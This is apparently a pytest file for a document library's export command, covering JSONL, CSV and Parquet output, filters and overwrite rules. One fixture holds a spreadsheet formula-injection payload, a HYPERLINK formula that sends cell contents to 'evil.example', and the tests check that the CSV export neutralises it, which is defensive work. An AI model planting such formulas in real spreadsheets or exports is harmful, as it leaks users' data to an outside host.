"""Export: every document with its metadata and text, in three formats that say the same; whole or not there; harmless in a spreadsheet."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path
from typing import Any

import pytest

from core.caring.exporting import COLUMNS
from tests.cli.library import NOT_UTF8, Ask, fill
from tests.house import House

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> House:
    house = fill(tmp_path_factory.mktemp("library"))
    with house.open():
        house.write("=cmd+' !A0.txt", EVIL)
        house.write("minus.txt", "-2+3\nand more")
        house.look()
    return house


def exported(ask: Ask, form: str, target: Path, *words: str) -> None:
    answer = ask("export", "--format", form, "--to", target, *words)
    assert answer.status == 0, answer.err
    assert f"in {target}" in answer.err


def from_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def from_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_json_lines_have_what_show_and_text_print(ask: Ask, house: House, tmp_path: Path) -> None:
    exported(ask, "jsonl", tmp_path / "all.jsonl")
    records = {record["id"]: record for record in from_jsonl(tmp_path / "all.jsonl")}
    documents = ask("list", "--json").objects
    assert records.keys() == {one["id"] for one in documents}
    for one in documents:
        (shown,) = ask("show", one["id"], "--json").objects
        assert records[one["id"]] == {**one, "metadata": shown["metadata"], "text": records[one["id"]]["text"]}
    agenda = records[house.document("Agenda August.pdf").id]
    assert agenda["text"].split("\n\n")[:2] == ["The unified school district", "adopted the budget"]
    assert records[house.document(NOT_UTF8).id]["name"] == NOT_UTF8


def test_no_cell_of_a_spreadsheet_is_a_formula(ask: Ask, tmp_path: Path) -> None:
    exported(ask, "csv", tmp_path / "all.csv")
    rows = from_csv(tmp_path / "all.csv")
    assert tuple(rows[0]) == COLUMNS
    assert not [cell for row in rows for cell in row.values() if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    (evil,) = [row for row in rows if row["name"].endswith("A0.txt")]
    assert (evil["name"], evil["text"]) == ("'=cmd+' !A0.txt", f"'{EVIL}")
    (minus,) = [row for row in rows if row["name"] == "minus.txt"]
    assert minus["text"] == "'-2+3\nand more"
    assert minus["size"] == "13"


def test_parquet_says_the_same_with_its_types(ask: Ask, tmp_path: Path) -> None:
    duckdb = pytest.importorskip("duckdb")
    exported(ask, "parquet", tmp_path / "all.parquet")
    exported(ask, "jsonl", tmp_path / "all.jsonl")
    with duckdb.connect() as database:
        found = database.read_parquet(str(tmp_path / "all.parquet"))
        assert tuple(found.columns) == COLUMNS
        kinds = dict(zip(found.columns, map(str, found.types), strict=True))
        assert (kinds["id"], kinds["text"], kinds["modified"]) == ("BIGINT", "VARCHAR", "TIMESTAMP WITH TIME ZONE")
        rows = found.project("id, text, metadata, size").fetchall()
    expected = [(one["id"], one["text"], one["metadata"], one["size"]) for one in from_jsonl(tmp_path / "all.jsonl")]
    assert [(id_, text, json.loads(metadata), size) for id_, text, metadata, size in rows] == expected


def test_the_filters_are_those_of_list(ask: Ask, house: House, tmp_path: Path) -> None:
    exported(ask, "jsonl", tmp_path / "failed.jsonl", "--status", "failed")
    assert [one["name"] for one in from_jsonl(tmp_path / "failed.jsonl")] == ["locked.pdf"]
    exported(ask, "jsonl", tmp_path / "deleted.jsonl", "--deleted")
    assert [(one["name"], one["text"]) for one in from_jsonl(tmp_path / "deleted.jsonl")] == [("gone.txt", "soon gone")]
    exported(ask, "jsonl", tmp_path / "folder.jsonl", "--folder", "inbox")
    assert len(from_jsonl(tmp_path / "folder.jsonl")) == len(house.documents())


def test_what_is_there_stays_unless_forced(ask: Ask, tmp_path: Path) -> None:
    there = tmp_path / "there.csv"
    there.write_text("mine")
    answer = ask("export", "--format", "csv", "--to", there)
    assert (answer.status, there.read_text()) == (1, "mine")
    assert "--force" in answer.err
    exported(ask, "csv", there, "--force")
    assert len(from_csv(there)) > 1


def test_without_the_add_on_a_sentence_says_how_to_get_it(ask: Ask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "duckdb", None)
    answer = ask("export", "--format", "parquet", "--to", tmp_path / "all.parquet")
    assert answer.status == 1
    assert "papertray[parquet]" in answer.err
    assert not list(tmp_path.iterdir())
